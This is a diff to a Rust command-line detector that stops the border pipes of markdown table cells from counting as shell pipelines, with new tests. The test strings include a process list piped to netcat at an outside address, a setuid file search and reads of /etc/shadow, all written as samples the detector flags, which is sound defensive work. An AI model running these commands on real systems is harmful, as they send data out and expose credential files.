@@ -3122,6 +3122,9 @@ fn scan_segment(
     let mut assembled = 0u8;
     // Inside a markdown code fence: lines there are documentation.
     let mut in_fence = false;
+    // Whether the value holds a markdown table's delimiter row; looked for
+    // once, at the first `|` that opens or closes a line.
+    let mut table: Option<bool> = None;
     let mut i = seg_start;
     while i < seg_end {
         i = triggers.next(b, i);
@@ -3134,6 +3137,17 @@ fn scan_segment(
                 let mut j = i + 1;
                 while j < seg_end && j < i + 3 && matches!(b[j], b'|' | b'&' | b';') {
                     j += 1;
+                }
+                // `| --force | overwrite files |`: the border of a markdown
+                // table cell; what the cell shows counts only when hostile.
+                if x == b'|'
+                    && j == i + 1
+                    && table_row(b, seg_start, seg_end, i)
+                    && *table.get_or_insert_with(|| has_table_rule(&b[seg_start..seg_end]))
+                {
+                    check_command(text, i, j, seg_end, Ctx::Span, hits);
+                    i = j;
+                    continue;
                 }
                 // `&amp;`-style leftovers and `&#...;` are not separators.
                 // Whether a written command line comes before is looked at
@@ -3497,6 +3511,29 @@ const DEV_TOOLS: &[&str] = &[
 /// sub-command) and no prose. Prose may come before it ("To see disk usage:
 /// du -sh * | sort -h"); a value an application expects (`127.0.0.1`, `x`,
 /// `report.pdf`) is no command line, so `127.0.0.1; id` is not affected.
+/// Whether the `|` at `at` lies on a line that opens and closes with `|`,
+/// as the rows of a markdown table do.
+fn table_row(b: &[u8], seg_start: usize, seg_end: usize, at: usize) -> bool {
+    let ls = memchr::memrchr(b'\n', &b[seg_start..at]).map_or(seg_start, |p| seg_start + p + 1);
+    let le = memchr::memchr(b'\n', &b[at..seg_end]).map_or(seg_end, |p| at + p);
+    let line = b[ls..le].trim_ascii();
+    line.len() >= 3 && line[0] == b'|' && line[line.len() - 1] == b'|'
+}
+
+/// Whether `seg` holds a markdown table's delimiter row (`|---|:---:|`):
+/// a line of pipes, dashes, colons and blanks with a run of three dashes.
+fn has_table_rule(seg: &[u8]) -> bool {
+    memchr::memmem::find_iter(seg, b"---").any(|p| {
+        let ls = memchr::memrchr(b'\n', &seg[..p]).map_or(0, |q| q + 1);
+        let le = memchr::memchr(b'\n', &seg[p..]).map_or(seg.len(), |q| p + q);
+        let line = &seg[ls..le];
+        line.contains(&b'|')
+            && line
+                .iter()
+                .all(|c| matches!(c, b'|' | b'-' | b':' | b' ' | b'\t' | b'\r'))
+    })
+}
+
 fn follows_command_line(b: &[u8], seg_start: usize, sep: usize) -> bool {
     let lo = seg_start.max(sep.saturating_sub(160));
     let mut k = sep;
@@ -5115,6 +5152,15 @@ mod tests {
         assert!(!flagged("ps aux | grep node shows it is still running"));
         assert!(flagged("ps aux | nc 203.0.113.7 4444"));
         assert!(flagged("find / -perm -4000 | xargs ls -la"));
+    }
+
+    #[test]
+    fn markdown_table_cells_are_not_pipelines() {
+        let table = "| option | effect |\n| :--- | ---: |\n| `-n` | show what would run |\n| `-q` | print nothing |";
+        assert!(!flagged(table), "{table}");
+        // A hostile cell still counts, and so does a pipe in a table-less row.
+        assert!(flagged("| a | b |\n|---|---|\n| x | cat /etc/shadow |"));
+        assert!(flagged("| x | cat /etc/shadow |"));
     }
 
     #[test]
